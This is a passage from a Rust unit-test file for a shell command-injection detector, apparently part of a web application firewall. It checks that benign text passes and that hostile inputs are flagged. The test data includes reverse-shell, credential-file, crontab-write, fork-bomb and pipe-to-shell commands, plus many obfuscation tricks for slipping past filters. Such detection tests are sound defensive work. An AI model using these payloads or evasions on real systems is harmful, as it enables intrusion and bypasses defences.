            "Salt & pepper; sleep well",
            "SKU-104",
            "/api/v1/users/130",
            "more info | less noise",
            "passwd reset help",
            "```python\nfor i in range(10):\n    print(i)\n```",
            "if you want, for a while",
            "python",
            "time flies like an arrow",
            "for each item in (the list) do nothing",
            "cat /proc/cpuinfo shows 4 cores on my laptop",
            "ping my server every morning before work",
            "> /tmp is where it goes",
            "> quoted reply",
            "/bin/",
            "bin/rails",
            "alias for the name",
            "prices $5$10$20",
            "use $HOME and $PATH and $USER",
            "${a}${b}${c}",
            "dd if you can",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
        for a in [
            "ifconfig;. rm -rf /; Something after space or new line more characters",
            "cat /etc/passwd; echo done and gone home now",
            "/bin/ab",
            "/usr/bin/cscli",
            "ansible all -m ping\n",
            "time; ansible all -m ping\n",
            "aa-disable php-fpm",
            "alias +m a=b",
            "alias -p a=b",
            ">/tmp/curl",
            ">>/etc/crontab",
            "if/i a==b foo",
            "dd if=/etc/passwd of=/tmp/evil.sh bs=1 skip=22 count=9",
            "c1=c;a1=/;$c1$c2$c3$c4$a1",
        ] {
            assert!(detect(a).is_some(), "missed {a:?}");
        }
    }

    #[test]
    fn evasions_and_shell_syntax() {
        for a in [
            "'i'p a",
            "\"w\"get localhost",
            "pi$()ng 127.0.0.1",
            "pi``ng 127.0.0.1",
            "c$@at /etc/passwd",
            "x;c$!at+/et$!c/pas$!swd",
            "cu$@rl google.com",
            "\\ls",
            "{l,-lh}s",
            "{,ip,a}",
            "{,ifconfig}",
            "{,$'whoami',}",
            "{,/?s?/?i?/c?t,/e??/p??s??,}",
            "/etc/pas[s]wd",
            "/???/?s",
            "cat /et*/*wd",
            "/usr/[a-z]in/bash",
            ";top",
            "&aptitude",
            "';htop'",
            ";\\n.shell nc 10.10.10.1 6666 -e sh",
            "1;.sh whoami",
            "garb=adduse[r];$garb pizza",
            ";$a cat test.txt",
            "python3.10 -c 'import os'",
            "view=image.jpg&bcdboot /r file.txt",
            "~+",
            "~-1",
            "~+5",
            "!-1!-2",
            "!3!4",
            "cd /;cd etc;column passwd",
            ";vim dddd +silent\\ \\!whoami +wq",
            ";ex -c:\\!pwd",
            "`cut crs312``dig 34test`",
            ";ssh-copy-id user@server",
            ";trap 'rm -rf file.txt' SIGEXIT",
            "ll /var/www/",
        ] {
            assert!(detect(a).is_some_and(|f| f.1 >= 0.5), "missed {a:?}");
        }
    }

    #[test]
    fn shell_look_alikes() {
        for b in [
            "grep -r 'TODO' src/ | wc -l",
            "grep -i 'error' app.log | sort | uniq -c | head -20",
            "Template: Hello {{name}}, your order {{id}} shipped.",
            "query User($id: ID!) { user(id: $id) { node { id total } } }",
            "Supported files: *.{jpg,png,gif}",
            "fields={id,name,email}&sort={created_at,-id}",
            "I'd say it's fine; O'Keefe's shop opens at 9",
            "rock'n'roll, 'n' stuff",
            "O'keefe's",
            "'id'",
            "; that's all",
            "; see above",
            "| name | qty |\n|------|-----|\n| tea  | 2   |",
            "&nbsp; is a non-breaking space",
            "~5 minutes away",
            "~5",
            "~+5 degrees",
            "about ~-1 C tonight",
            "Wow!!",
            "!!",
            "!-1",
            "cool!-1 vote",
            "Really?!",
            "bin/ansible",
            "bin/chef",
            "We deploy with bin/ansible and bin/chef",
            "Name the photos report?.jpg or scan*.pdf, then upload to /uploads/2024/",
            "/api/v1/items?id=3&fields=*",
            "Done; .NET is great",
            "sort by date;head to checkout",
            "more|less",
            "R&D;sales",
            "Tom&Jerry;cat&mouse",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
    }

    #[test]
    fn relative_tool_paths_at_level_two() {
        for a in [
            "bin/ansible",
            "bin/chef",
            "bin/cscli",
            "bin/visudo",
            "usr/sbin/visudo",
        ] {
            assert!(paranoid(a, 2).is_some(), "missed {a:?}");
            assert_eq!(paranoid(a, 1), None, "level 1 {a:?}");
        }
        for b in [
            "bin/ansible-playbook site.yml",
            "bin/recycle",
            "bin/",
            "the bin/ folder",
            "cabin/chef",
        ] {
            assert_eq!(relative_tool(b), None, "flagged {b:?}");
        }
    }

    #[test]
    fn data_urls_are_no_commands() {
        for b in [
            "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ",
            "data:audio/ogg;BASE64,SGVsbG8=",
        ] {
            assert_eq!(detect(b), None, "flagged {b:?}");
        }
        // PHP's data: wrapper holds code (CRS 934170).
        assert!(detect("data:text/plain;base64,SSBsb3ZlIFBIUAo=").is_some());
        assert!(detect("x;base64 -d /tmp/a|sh").is_some());
    }

    #[test]
    fn glob_is_linear_enough() {
        assert!(glob(b"c?t", b"cat"));
        assert!(glob(b"*", b"anything"));
        assert!(!glob(b"c*z", b"cat"));
        let long = "*a".repeat(2000);
        let _ = glob(long.as_bytes(), b"whoami");
        let _ = detect(&";".repeat(100_000));
        for v in [
            "{a,".repeat(30_000),
            "/[a]?".repeat(30_000),
            "x;cd /".repeat(20_000),
            "c'a't".repeat(20_000),
            "`".repeat(100_000),
            "\\!".repeat(50_000),
        ] {
            let start = std::time::Instant::now();
            let _ = detect(&v);
            assert!(start.elapsed().as_secs() < 5, "slow on {:?}", &v[..8]);
        }
    }

    /// `plain_miss` against the full reading: a word it passes over is one
    /// `command_at_depth` finds nothing in, before or after a separator.
    #[test]
    fn plain_miss_is_a_miss() {
        for (v, miss) in [
            ("Mozilla/5.0 (X11; Linux x86_64; rv:17.0)", true),
            ("Linux x86_64; rv:17.0)", true),
            ("rv:17.0)", true),
            ("deliver to the door", true),
            ("c:/windows/system32/notepad2.exe x", true),
            ("cat /etc/passwd", false),
            ("CAT /etc/passwd", false),
            ("python3.10 -c x", false),
            ("cmd.exe /c dir", false),
            ("c:/windows/system32/cmd.exe /c dir", false),
            ("nohup wget x", false),
            ("alias x=y", false),
            ("f(){ f|f& };f", false),
            ("f () { x; }", false),
            ("/bin/ab", false),
            ("c'a't x", false),
            ("a=nc&&$a -l", false),
            ("$SHELL -c id", false),
            ("x`id`", false),
            ("", false),
        ] {
            assert_eq!(plain_miss(v), miss, "{v:?}");
            if miss {
                for after_sep in [false, true] {
                    assert_eq!(command_at_depth(v, after_sep, 0), None, "{v:?}");
                }
            }
        }
    }
}
